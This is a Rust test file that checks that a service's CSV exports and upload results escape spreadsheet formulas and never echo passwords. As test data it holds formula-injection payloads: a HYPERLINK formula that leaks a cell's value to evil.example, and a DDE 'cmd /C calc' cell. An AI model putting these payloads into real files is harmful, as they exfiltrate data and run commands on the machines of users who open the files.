//! CSV cells that are safe to open in a spreadsheet, and secrets that never leave the server:
//! `t=csv` exports and uploader result files neutralise formulas and read that escaping back
//! (CONTRACT.md section 10, "Safety"); password cells are blank in every result and never in a
//! detail line or an error message.

mod common;

use common::*;
use reqwest::Method;
use reqwest::multipart::{Form, Part};
use serde_json::{Value as Json, json};
use std::time::{Duration, Instant};

/// Names a spreadsheet would run, quoted names, and a plain one.
const NAMES: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+1",
    "-x",
    "@a",
    "'quoted",
    "''two",
    "\tTab",
    "plain",
];

fn form(entity: &str, bytes: Vec<u8>) -> Form {
    Form::new()
        .text("entity", entity.to_string())
        .part("csvfile", Part::bytes(bytes).file_name("f.csv"))
}

/// The records of a CSV text (header included).
fn records(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn csv_text(rows: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    for r in rows {
        w.write_record(r).unwrap();
    }
    w.into_inner().unwrap()
}

fn col(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

async fn names(app: &TestApp) -> std::collections::BTreeMap<i64, String> {
    app.campaign_names().await
}

fn escaped(v: &str) -> String {
    match v.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{v}"),
        _ => v.to_string(),
    }
}

#[tokio::test]
async fn exports_neutralise_formulas_and_an_edited_export_uploads_back_unchanged() {
    let app = spawn_app().await;
    let mut ids = Vec::new();
    for n in NAMES {
        let o = app
            .create(
                "campaigns",
                json!({"name": n, "type": -5, "description": format!("-{n}")}),
            )
            .await;
        ids.push(o["id"].as_i64().unwrap());
    }
    let before = names(&app).await;

    let r = app
        .admin(Method::GET, "/campaigns?t=csv&limit=1000")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let export = records(&r.text().await.unwrap());
    let header = export[0].clone();
    let (name, ty, desc) = (
        col(&header, "name"),
        col(&header, "type"),
        col(&header, "description"),
    );
    assert_eq!(export.len(), NAMES.len() + 1);
    for (row, n) in export[1..].iter().zip(NAMES) {
        assert_eq!(row[name], escaped(n), "name {n:?}");
        assert_eq!(row[desc], format!("'-{n}"), "description of {n:?}");
        assert_eq!(row[ty], "-5", "a negative integer stays a number");
    }
    assert_eq!(export[NAMES.len()][name], "plain");
    assert_eq!(
        export[1][name],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    );

    // The export, edited (an `op` column, without the server's timestamps), goes back as
    // updates: every value is as it was.
    let keep = ["id", "name", "type", "description", "is_active"].map(|c| col(&header, c));
    let mut edited = vec![
        std::iter::once("op".to_string())
            .chain(keep.iter().map(|i| header[*i].clone()))
            .collect::<Vec<_>>(),
    ];
    for row in &export[1..] {
        edited.push(
            std::iter::once("u".to_string())
                .chain(keep.iter().map(|i| row[*i].clone()))
                .collect(),
        );
    }
    let r = upload::upload_response(&app, form("campaigns", csv_text(&edited))).await;
    assert_eq!(r.status(), 200);
    let result = records(&r.text().await.unwrap());
    let rh = &result[0];
    for (row, sent) in result[1..].iter().zip(&edited[1..]) {
        assert_eq!(row[col(rh, "res")], "OK", "{row:?}");
        // The result echoes the cells escaped as they were sent.
        assert_eq!(row[col(rh, "name")], sent[2]);
        assert_eq!(row[col(rh, "description")], sent[4]);
        assert_eq!(row[col(rh, "type")], "-5");
    }
    assert_eq!(
        names(&app).await,
        before,
        "an export uploaded back changes no value"
    );
    let (_, one) = json(
        app.admin(Method::GET, &format!("/campaigns/{}", ids[2]))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(one["description"], "--x");
    assert_eq!(one["type"], -5);

    // The result file can itself be uploaded again as it is.
    let mut again = result.clone();
    for row in &mut again[1..] {
        row[col(rh, "res")] = String::new();
    }
    let r = upload::upload_response(&app, form("campaigns", csv_text(&again))).await;
    assert_eq!(r.status(), 200);
    assert_eq!(names(&app).await, before);

    app.stop().await;
}

#[tokio::test]
async fn uploaded_cells_are_read_unescaped_and_echoed_escaped() {
    let app = spawn_app().await;
    // Escaped cells (as an export writes them) and raw ones (as a person types them).
    let rows: Vec<(&str, &str, &str)> = vec![
        // (cell, value stored, cell in the result)
        ("'=1+1", "=1+1", "'=1+1"),
        ("=2+2", "=2+2", "'=2+2"),
        ("'''x", "''x", "'''x"),
        ("''y", "'y", "''y"),
        ("'hello", "'hello", "''hello"),
        ("'-5", "-5", "'-5"),
        ("'@a", "@a", "'@a"),
        ("plain", "plain", "plain"),
    ];
    let mut csv = vec![vec!["op".to_string(), "name".to_string()]];
    csv.extend(
        rows.iter()
            .map(|(c, _, _)| vec!["c".to_string(), c.to_string()]),
    );
    let r = upload::upload_response(&app, form("campaigns", csv_text(&csv))).await;
    assert_eq!(r.status(), 200);
    let result = records(&r.text().await.unwrap());
    let h = &result[0];
    let mut created = Vec::new();
    for (row, (cell, _, echoed)) in result[1..].iter().zip(&rows) {
        assert_eq!(row[col(h, "res")], "OK", "{cell:?}: {row:?}");
        assert_eq!(row[col(h, "name")], *echoed, "{cell:?}");
        created.push(row[col(h, "id")].parse::<i64>().unwrap());
    }
    let stored = names(&app).await;
    for (id, (cell, value, _)) in created.iter().zip(&rows) {
        assert_eq!(stored[id], *value, "{cell:?}");
    }

    // A failing row echoes its cells escaped too, and its `res` is safe text.
    let bad = b"op,name,type\nc,=cmd|' /C calc'!A0,=1+1\n".to_vec();
    let r = upload::upload_response(&app, form("campaigns", bad)).await;
    assert_eq!(r.status(), 200);
    let result = records(&r.text().await.unwrap());
    let (h, row) = (&result[0], &result[1]);
    assert_ne!(row[col(h, "res")], "OK");
    assert_eq!(row[col(h, "name")], "'=cmd|' /C calc'!A0");
    assert_eq!(
        row[col(h, "type")],
        "'=1+1",
        "a non-number in a number column"
    );
    app.stop().await;
}

const PASSWORD: &str = "Secr3t-pass-1";

/// A password over the field's `max_length` (1024), recognisable in any output.
fn long_password() -> String {
    format!("Overlong-{}", "q".repeat(1100))
}

fn users_csv() -> Vec<u8> {
    format!(
        "op,login,password,first_name\nc,alice,{PASSWORD},=Alice\nc,bob,{},Bob\nc,carol,{PASSWORD}x,Carol\n",
        long_password()
    )
    .into_bytes()
}

fn assert_no_secret(what: &str, text: &str) {
    assert!(!text.contains(PASSWORD), "{what} holds a password: {text}");
    assert!(
        !text.contains("Overlong-"),
        "{what} holds a password: {text}"
    );
    assert!(
        !text.contains("qqqqqqqq"),
        "{what} holds a password: {text}"
    );
}

/// Checks a users result CSV: blank passwords, alice and carol created, bob refused.
fn check_users_result(text: &str) {
    assert_no_secret("the result CSV", text);
    let r = records(text.trim_start_matches('\u{feff}'));
    let h = &r[0];
    let (res, pw) = (col(h, "res"), col(h, "password"));
    assert_eq!(r.len(), 4, "{text}");
    for row in &r[1..] {
        assert_eq!(row[pw], "", "a password cell is blank");
    }
    assert_eq!(r[1][res], "OK");
    assert_eq!(r[1][col(h, "first_name")], "'=Alice");
    assert!(r[2][res].contains("too long"), "{}", r[2][res]);
    assert_eq!(r[3][res], "OK");
}

async fn signs_in(app: &TestApp, login: &str, password: &str) -> bool {
    let r = app
        .as_user(login, password, Method::GET, "/users/me")
        .send()
        .await
        .unwrap();
    r.status() == 200
}

#[tokio::test]
async fn passwords_never_appear_in_uploader_results_or_details() {
    let app = spawn_app().await;

    // Synchronous, the result CSV in the reply.
    let r = upload::upload_response(&app, form("users", users_csv())).await;
    assert_eq!(r.status(), 200);
    check_users_result(&r.text().await.unwrap());
    assert!(signs_in(&app, "alice", PASSWORD).await);
    assert!(signs_in(&app, "carol", &format!("{PASSWORD}x")).await);
    assert!(!signs_in(&app, "bob", &long_password()).await);

    // Streamed progress with the content, then with a link to the stored result.
    let again = String::from_utf8(users_csv())
        .unwrap()
        .replace("alice", "alice2")
        .replace("bob", "bob2")
        .replace("carol", "carol2");
    let r = upload::upload_response(
        &app,
        form("users", again.into_bytes())
            .text("show_progress", "1")
            .text("get_content", "1"),
    )
    .await;
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    assert_no_secret("the progress stream", &text);
    assert!(text.contains("Line: 2 done. Result: 400."), "{text}");
    check_users_result(&text[text.find("res,").expect("the result CSV")..]);

    let again = String::from_utf8(users_csv())
        .unwrap()
        .replace("alice", "alice3")
        .replace("bob", "bob3")
        .replace("carol", "carol3");
    let r = upload::upload_response(
        &app,
        form("users", again.into_bytes()).text("show_progress", "1"),
    )
    .await;
    let text = r.text().await.unwrap();
    assert_no_secret("the progress stream", &text);
    let link = text
        .lines()
        .find_map(|l| l.strip_prefix("Result: "))
        .unwrap_or_else(|| panic!("a result link: {text}"));
    let path = link.trim().rsplit_once("media/").map(|(_, p)| p).unwrap();
    let r = app
        .admin(Method::GET, &format!("/media/{path}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    check_users_result(&r.text().await.unwrap());

    // In the background: the stored result by both routes, and every detail line.
    let again = String::from_utf8(users_csv())
        .unwrap()
        .replace("alice", "alice4")
        .replace("bob", "bob4")
        .replace("carol", "carol4");
    let r =
        upload::upload_response(&app, form("users", again.into_bytes()).text("bgrs", "1")).await;
    let (s, b) = json(r).await;
    assert_eq!(s, 202, "{b}");
    let rid = b["request"].as_str().unwrap().to_string();
    let start = Instant::now();
    let rec = loop {
        let (_, b) = json(
            app.admin(Method::GET, &format!("/bgrs/{rid}"))
                .send()
                .await
                .unwrap(),
        )
        .await;
        if b[0]["status_id"] == "4" {
            break b[0].clone();
        }
        assert!(start.elapsed() < Duration::from_secs(30), "{b}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert_no_secret("the record", &rec.to_string());
    for path in [
        format!("/v2.5/bgrs/{rid}/result"),
        format!("/{}", rec["result"].as_str().unwrap()),
    ] {
        let r = app.admin(Method::GET, &path).send().await.unwrap();
        assert_eq!(r.status(), 200, "{path}");
        check_users_result(&r.text().await.unwrap());
    }
    let r = app
        .admin(Method::GET, &format!("/bgrs/{rid}/details"))
        .send()
        .await
        .unwrap();
    let details = r.text().await.unwrap();
    assert_no_secret("the details", &details);
    let details: Json = serde_json::from_str(&details).unwrap();
    let lines: Vec<&str> = details
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|d| d["details"].as_str())
        .filter(|d| d.starts_with("Line: "))
        .collect();
    assert_eq!(lines.len(), 3, "{details}");
    assert!(lines[1].contains("too long"), "{}", lines[1]);
    assert!(signs_in(&app, "alice4", PASSWORD).await);
    app.stop().await;
}

#[tokio::test]
async fn validation_errors_never_echo_a_password() {
    let app = spawn_app().await;
    let long = long_password();
    let r = app
        .admin(Method::POST, "/users")
        .json(&json!({"login": "dave", "password": long}))
        .send()
        .await
        .unwrap();
    let (s, b) = json(r).await;
    assert_eq!(s, 400);
    assert_eq!(error_code(&b), "validation_failed");
    let why = b["fields"]["password"].as_str().unwrap();
    assert!(why.contains("too long"), "{b}");
    assert_no_secret("the error", &b.to_string());

    let r = app
        .admin(Method::POST, "/users")
        .json(&json!({"login": "erin", "password": 12345678}))
        .send()
        .await
        .unwrap();
    let (s, b) = json(r).await;
    assert_eq!(s, 400);
    assert_eq!(b["fields"]["password"], "must be a string", "{b}");
    assert!(!b.to_string().contains("12345678"), "{b}");

    // A batch stores each item's reply: no password there either.
    let r = app
        .admin(Method::POST, "/users?bgrs=false")
        .json(&json!([
            {"login": "frank", "password": PASSWORD},
            {"login": "gina", "password": long},
        ]))
        .send()
        .await
        .unwrap();
    let (s, b) = json(r).await;
    assert_eq!(s, 200);
    assert_no_secret("the batch result", &b.to_string());
    assert_eq!(b[0]["status"], 200);
    assert_eq!(b[1]["status"], 400);
    assert!(signs_in(&app, "frank", PASSWORD).await);
    app.stop().await;
}
